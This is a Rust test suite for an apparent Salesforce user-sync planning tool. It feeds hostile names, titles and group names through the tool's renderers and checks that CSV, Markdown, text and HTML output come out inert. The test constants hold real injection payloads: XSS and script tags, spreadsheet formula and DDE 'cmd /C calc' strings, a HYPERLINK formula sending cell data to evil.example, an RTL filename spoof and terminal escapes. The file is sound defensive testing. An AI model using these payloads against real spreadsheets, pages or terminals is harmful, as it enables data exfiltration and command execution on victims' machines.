//! Injection: names, titles, usernames, group, role and business unit names holding HTML,
//! script, formula payloads, right-to-left overrides, terminal escapes and very long strings
//! are rendered inert by every renderer: CSV cells that a spreadsheet would run start with
//! `'`, Markdown renders no HTML, link or code span from a value, and hidden characters are
//! shown as `[U+202E]`.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use syncplan::engine::export::CsvOptions;
use syncplan::engine::ingest::IngestOptions;
use syncplan::engine::{render, InputFile, Report};

const XSS: &str = "<img src=x onerror=alert(1)>";
const SCRIPT: &str = "<script>window.__pwned=1</script>";
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS: &str = "-2+3";
const RLO: &str = "Invoice\u{202E}fdp.exe";
const ESC: &str = "Ann\u{1b}[2J\u{1b}]0;pwned\u{7}";
const TICKS: &str = "``|</td>[link](javascript:alert(1))";

/// The 18-character id of a 15-character one (the engine's own normalisation).
fn sfid(id15: &str) -> String {
    syncplan::engine::id::SfId::parse(id15)
        .unwrap()
        .id
        .to_string()
}

/// CSV-quote a value.
fn q(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// An org whose every free-text value is hostile; every user is assigned through a public
/// group with a hostile name, and each AE user differs so that changes list before → after.
fn hostile_report() -> Report {
    let long = "A".repeat(100_000);
    let p1 = sfid("00e000000000001");
    let g1 = sfid("00G000000000001");
    let payloads = [
        XSS, SCRIPT, HYPERLINK, CMD, SUM, MINUS, RLO, ESC, TICKS, &long,
    ];
    let mut users = String::from(
        "Id,Username,Email,FirstName,LastName,Title,IsActive,UserType,ProfileId,Profile.Name\n",
    );
    let mut members = String::from("Id,GroupId,UserOrGroupId\n");
    let mut ae = String::from(
        "id,email,firstName,lastName,jobTitle,roleName,salesforceId,crmUsername,isDeleted\n",
    );
    for (i, p) in payloads.iter().enumerate() {
        let n = i + 1;
        let uid = sfid(&format!("005{n:012}"));
        // Usernames start with the payload (a spreadsheet sees it first in its cell).
        let username = format!("{p}u{n}@x.example");
        users += &format!(
            "{uid},{},u{n}@x.example,{},{},{},true,Standard,{p1},Marketing User\n",
            q(&username),
            q(p),
            q(p),
            q(p)
        );
        members += &format!("{},{g1},{uid}\n", sfid(&format!("011{n:012}")));
        if n % 2 == 0 {
            // Linked AE users whose fields and custom role are payloads too: updates with
            // before → after, and a hostile previous role.
            ae += &format!(
                "{},u{n}@x.example,{},{},{},{},{uid},,false\n",
                1000 + n,
                q(MINUS),
                q(HYPERLINK),
                q(XSS),
                q(CMD)
            );
        }
    }
    let files = vec![
        InputFile { name: "users.csv".into(), bytes: users.into_bytes() },
        InputFile {
            name: "profiles.csv".into(),
            bytes: format!("Id,Name,UserLicense.Name,UserType\n{p1},Marketing User,Salesforce,Standard\n").into_bytes(),
        },
        InputFile {
            name: "groups.csv".into(),
            bytes: format!("Id,Name,DeveloperName,Type,RelatedId,DoesIncludeBosses\n{g1},{},Evil_Group,Regular,,true\n", q(&format!("{XSS}{RLO}{HYPERLINK}"))).into_bytes(),
        },
        InputFile { name: "group-members.csv".into(), bytes: members.into_bytes() },
        InputFile { name: "ae-users.csv".into(), bytes: ae.into_bytes() },
    ];
    let scenario = serde_json::json!({
        "format_version": "1",
        "mode": "latest",
        "business_units": [{
            "name": format!("{HYPERLINK}{XSS}{RLO}"),
            "ae_users": "ae-users.csv",
            "marketing_users": [{ "public_group": "Evil_Group" }],
            "profile_roles": { "Marketing User": "Sales Manager" },
        }]
    })
    .to_string();
    let report = common::read_and_plan(
        &files,
        Some(("syncplan.json", &scenario)),
        &IngestOptions::default(),
    )
    .unwrap();
    let s = report.plan.summary;
    assert_eq!(
        (s.create, s.update),
        (5, 5),
        "every payload user is planned: {s:?}"
    );
    report
}

fn is_hidden(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
        || (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
}

#[test]
fn csv_cells_never_start_a_formula_and_hidden_characters_show() {
    let report = hostile_report();
    let out = render::csv(&report.plan);
    assert!(
        !out.chars().any(is_hidden),
        "a hidden character is written raw"
    );
    assert!(out.contains("[U+202E]"), "the override is shown");
    assert!(out.contains("[U+001B]"), "the escape is shown");
    let body = out.strip_prefix('\u{feff}').unwrap();
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(body.as_bytes());
    let mut cells = 0;
    let mut prefixed = 0;
    for rec in rdr.records() {
        for cell in rec.unwrap().iter() {
            cells += 1;
            if cell.starts_with('\'') {
                prefixed += 1;
            }
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:.80}"
            );
        }
    }
    assert!(cells > 100);
    // Usernames, the BU name and previous roles start with a payload: each is neutralised.
    for needle in ["'=HYPERLINK(", "'+cmd|", "'@SUM(", "'-2+3"] {
        assert!(body.contains(needle), "{needle} is written as text");
    }
    assert!(prefixed >= 10, "{prefixed} cells neutralised");

    // --raw-csv keeps every value as it is (for tools that read them back).
    let raw = render::csv_with(&report.plan, CsvOptions { neutralise: false });
    assert!(raw.contains(RLO));
    assert!(
        raw.contains(&format!("\"{}\"", HYPERLINK.replace('"', "\"\""))) || raw.contains(HYPERLINK)
    );
}

#[test]
fn markdown_renders_no_html_link_or_code_from_values() {
    let report = hostile_report();
    let md = render::markdown(&report.plan);
    assert!(
        !md.chars().any(is_hidden),
        "a hidden character is written raw"
    );
    assert!(md.contains("[U+202E]"));
    for raw in ["<img", "<script", "</td>", "``"] {
        assert!(!md.contains(raw), "markdown holds raw `{raw}`");
    }
    // Brackets are escaped, so no value forms a link.
    assert!(!md.replace("\\]", "").contains("](javascript:"));
    assert!(md.contains("\\[link\\](javascript:alert(1))"));
    assert!(md.contains("&lt;img src=x onerror=alert(1)&gt;"));
    // Every table row has exactly its six cells: no value adds an unescaped `|`.
    let mut rows = 0;
    for line in md
        .lines()
        .filter(|l| l.starts_with("| ") && !l.starts_with("| action"))
    {
        let mut pipes = 0;
        let mut escaped = false;
        for c in line.chars() {
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == '|' {
                pipes += 1;
            }
        }
        assert_eq!(pipes, 7, "{line:.200}");
        rows += 1;
    }
    assert_eq!(rows, 10);
    // The code spans are the values the engine quotes; none holds markup, and a backtick from a
    // value is escaped text.
    let mut spans = 0;
    for line in md.lines().filter(|l| l.starts_with("| ")) {
        let unescaped = line.replace("\\`", "");
        for (text, code) in render::pieces(&unescaped) {
            if code {
                spans += 1;
                assert!(!text.contains(['<', '>', '&']), "{text:.200}");
            }
        }
    }
    assert!(spans > 0, "the engine's quoted values are code spans");
}

#[test]
fn text_and_html_show_hidden_characters_and_escape_markup() {
    let report = hostile_report();
    let text = render::text(&report.plan);
    assert!(
        !text.chars().any(is_hidden),
        "the terminal would run an escape or flip text"
    );
    assert!(text.contains("[U+001B][2J"));
    let html = syncplan::engine::export::html::report(&report, None);
    for raw in ["<img", "<script", "onerror=alert(1)>"] {
        assert!(!html.contains(raw), "the HTML report holds raw `{raw}`");
    }
    assert!(!html.contains('\u{202E}'));
    // The JSON plan keeps the values exactly (it is data, and serde escapes what JSON needs).
    let json = render::json(&report.plan);
    let back: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(back.to_string().contains("<img src=x onerror=alert(1)>"));
}

#[test]
fn escaping_helpers() {
    assert_eq!(
        render::visible("a\u{202E}b\u{1b}c\td\n"),
        "a[U+202E]b[U+001B]c\td\n"
    );
    assert_eq!(render::visible("plain é"), "plain é");
    assert_eq!(
        render::markdown_escape("<b>|`x`|[a](b)&\n"),
        "&lt;b&gt;\\|\\`x\\`\\|\\[a\\](b)&amp; "
    );
}
